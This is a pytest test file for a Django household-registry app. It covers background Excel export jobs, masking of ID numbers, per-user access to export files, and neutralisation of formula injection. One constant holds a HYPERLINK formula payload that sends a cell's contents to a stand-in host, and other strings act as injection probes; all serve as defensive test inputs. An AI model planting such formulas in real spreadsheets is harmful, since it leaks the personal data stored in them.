"""Large exports run as background jobs: a progress page, then a download for the asker alone; the
streaming writer keeps the safe sheet's guarantees (text stays text, no formulas)."""

import io
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

from fupin.core import exportjobs, files
from fupin.core.enums import Role
from fupin.core.models import ExportJob
from fupin.registry.tests.conftest import make_sima_household

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击查看详情")'


def _streamed(tmp_path, row: list):
    path = str(tmp_path / "s.xlsx")
    with files.StreamingWorkbook(path) as book:
        book.sheet("表").append(row)
    return list(load_workbook(path).active[1])


def test_streamed_text_that_looks_like_a_formula_stays_text(tmp_path):
    cells = _streamed(tmp_path, [HYPERLINK, "+1", "-1", "@SUM(A1)", "\tx", "普通文字"])

    assert [cell.value for cell in cells] == [HYPERLINK, "+1", "-1", "@SUM(A1)", "\tx", "普通文字"]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.quotePrefix for cell in cells] == [True, True, True, True, True, False]


def test_streamed_control_characters_are_dropped(tmp_path):
    cells = _streamed(tmp_path, ["王\x00五\x1f", "a\tb\nc\r", "\x0b=1+2"])

    assert [cell.value for cell in cells] == ["王五", "a\tb\nc", "=1+2"]
    assert cells[2].data_type == "s" and cells[2].quotePrefix


def test_streamed_numbers_money_and_dates_stay_what_they_were(tmp_path):
    cells = _streamed(tmp_path, [-5, Decimal("-12.50"), 3.25, date(2026, 2, 28), None, True])

    assert [cell.value for cell in cells][:4] == [-5, -12.5, 3.25, datetime(2026, 2, 28)]
    assert cells[5].value is True


@pytest.fixture
def as_user():
    def login(user):
        client = Client()
        client.force_login(user)
        return client

    return login


@pytest.fixture
def big_list(monkeypatch, sima_officer):
    """Any list beyond the synchronous line becomes a job: here, any list at all."""
    monkeypatch.setattr(exportjobs, "SYNCHRONOUS_ROWS", 0)
    return make_sima_household(sima_officer)


def _rows(content: bytes) -> list:
    return list(load_workbook(io.BytesIO(content), read_only=True).active.iter_rows(values_only=True))


def test_a_large_export_becomes_a_job_with_a_progress_page_and_a_download(as_user, sima_officer, big_list):
    client = as_user(sima_officer)
    response = client.get("/households/export.xlsx", {"q": "王五"})

    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/exports/{job.pk}/"
    assert job.status == "done" and job.total == job.done == 2 and job.params["q"] == "王五"
    page = client.get(f"/exports/{job.pk}/").content.decode()
    assert f"/exports/{job.pk}/file" in page
    download = client.get(f"/exports/{job.pk}/file")
    assert download["Content-Disposition"].startswith("attachment")
    lines = _rows(b"".join(download.streaming_content))
    assert lines[0][:2] == ("户编号", "姓名") and lines[1][1] == "王五"
    assert "*" in lines[1][3] and big_list.head.id_number not in str(lines)  # IDs masked


def test_only_the_asker_sees_the_job_and_its_file(as_user, sima_officer, make_user, big_list):
    as_user(sima_officer).get("/households/export.xlsx")
    job = ExportJob.objects.get()
    colleague = make_user("sima2", "370828107000", roles=[Role.TOWN_OFFICER])  # same town, same role
    client = as_user(colleague)
    assert client.get(f"/exports/{job.pk}/").status_code == 404
    assert client.get(f"/exports/{job.pk}/file").status_code == 404


def test_a_user_moved_out_of_the_area_loses_the_file(as_user, sima_officer, big_list):
    as_user(sima_officer).get("/households/export.xlsx")
    job = ExportJob.objects.get()
    sima_officer.region_id = "370828104000"  # moved to 鸡黍镇: the file holds 司马镇's people
    sima_officer.save()
    assert as_user(sima_officer).get(f"/exports/{job.pk}/file").status_code == 404


def test_small_exports_stay_synchronous(as_user, sima_officer):
    make_sima_household(sima_officer)
    response = as_user(sima_officer).get("/households/export.xlsx")
    assert response.status_code == 200 and not ExportJob.objects.exists()


def test_the_api_starts_follows_and_downloads_an_export(api_as, sima_officer, jishu_officer):
    make_sima_household(sima_officer)
    api = api_as(sima_officer)
    started = api.post("/api/v1/households/exports?q=%E7%8E%8B%E4%BA%94")

    assert started.status_code == 202, started.content
    body = started.json()
    assert body["status"] == "done" and body["total"] == body["done"] == 2
    followed = api.get(f"/api/v1/exports/{body['id']}").json()
    assert followed["file"] == f"/api/v1/exports/{body['id']}/file"
    download = api.get(followed["file"])
    assert download.status_code == 200
    assert _rows(b"".join(download.streaming_content))[1][1] == "王五"
    outsider = api_as(jishu_officer)
    assert outsider.get(f"/api/v1/exports/{body['id']}").status_code == 404
    assert outsider.get(f"/api/v1/exports/{body['id']}/file").status_code == 404


def test_a_failed_export_leaves_no_file(sima_officer, monkeypatch, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    job = exportjobs.create(sima_officer, "registry.members", {})

    def broken(user, params):
        yield ["a"]
        raise RuntimeError("disk full")

    producer = exportjobs.producer("registry.members")
    monkeypatch.setattr(
        exportjobs, "producer", lambda kind: type(producer)(**{**producer.__dict__, "rows": broken})
    )
    job = exportjobs.run(job)
    assert job.status == "failed" and not job.file and not list(Path(tmp_path).rglob("*.xlsx"))
